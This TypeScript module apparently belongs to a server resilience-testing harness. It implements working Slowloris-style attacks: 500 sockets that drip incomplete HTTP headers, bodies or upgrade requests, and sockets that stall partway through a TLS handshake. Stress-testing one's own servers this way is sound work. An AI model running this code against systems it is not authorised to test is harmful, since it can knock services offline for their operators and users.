import type { Socket } from 'node:net'
import { count, cut, open, RawSocket, upgradeRequest } from '../raw-socket.js'
import { type Attack, atRate, keep, type Scene } from './scene.js'

const sockets = 500
/** Of all of them together: about four bytes a second each. */
const dripsPerSecond = 2000

interface Way {
  /** What it says at once. */
  readonly first: string | Buffer
  /** What follows, byte by byte; nothing where it is empty. */
  readonly drip: string
  readonly isShakingHands?: boolean
}

const header: Way = { first: 'GET /ws HTTP/1.1\r\nHost: x\r\nX-Slow: ', drip: 'x' }
const body: Way = { first: 'POST /leave HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n', drip: ' ' }
const nowhere: Way = { first: upgradeRequest('/nowhere'), drip: '' }
/** The start of a ClientHello (RFC 8446, section 4.1.2) of 512 bytes, of which the rest comes slowly. */
const handshake: Way = {
  first: Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]),
  drip: '\0',
  isShakingHands: false,
}

/** Slowloris: of 500 sockets some never finish the headers, some the body, some the upgrade, and some never join. */
export const slowRequests: Attack = (scene) => {
  let turn = 0
  return drip((onEnd, live) => {
    turn += 1
    const way = [header, header, body, nowhere][turn % 5]
    if (way !== undefined) return slowSocket(scene, way, onEnd, live)
    const mute = new RawSocket(scene.target(), scene.tally)
    mute.onEnd = onEnd
    return () => mute.cut()
  })
}

/** 500 sockets that never finish the handshake of TLS. */
export const slowHandshakes: Attack = (scene) => drip((onEnd, live) => slowSocket(scene, handshake, onEnd, live))

type Live = Map<Socket, string>

function drip(begin: (onEnd: () => void, live: Live) => () => void): () => void {
  const live: Live = new Map()
  const release = keep(sockets, (onEnd) => begin(onEnd, live))
  let order: [Socket, string][] = []
  const stop = atRate(dripsPerSecond, () => {
    if (order.length === 0) order = [...live]
    const [socket, byte] = order.pop() ?? []
    if (socket?.writable) socket.write(byte ?? '')
  })
  return () => {
    stop()
    release()
  }
}

function slowSocket({ target, tally }: Scene, way: Way, onEnd: () => void, live: Live): () => void {
  const socket = open(target(), way.isShakingHands)
  let isOurs = false
  let said = ''
  socket.on('data', (chunk: Buffer) => {
    said = chunk.toString('latin1', 0, 12)
  })
  socket.once(way.isShakingHands === undefined && 'encrypted' in socket ? 'secureConnect' : 'connect', () => {
    socket.write(way.first)
    if (way.drip !== '') live.set(socket, way.drip)
  })
  socket.on('close', () => {
    live.delete(socket)
    const [, status] = /^HTTP\/1\.1 (\d+)/.exec(said) ?? []
    if (!isOurs) count(tally, status === undefined ? 'cut' : `HTTP ${status}`)
    onEnd()
  })
  return () => {
    isOurs = true
    cut(socket)
  }
}
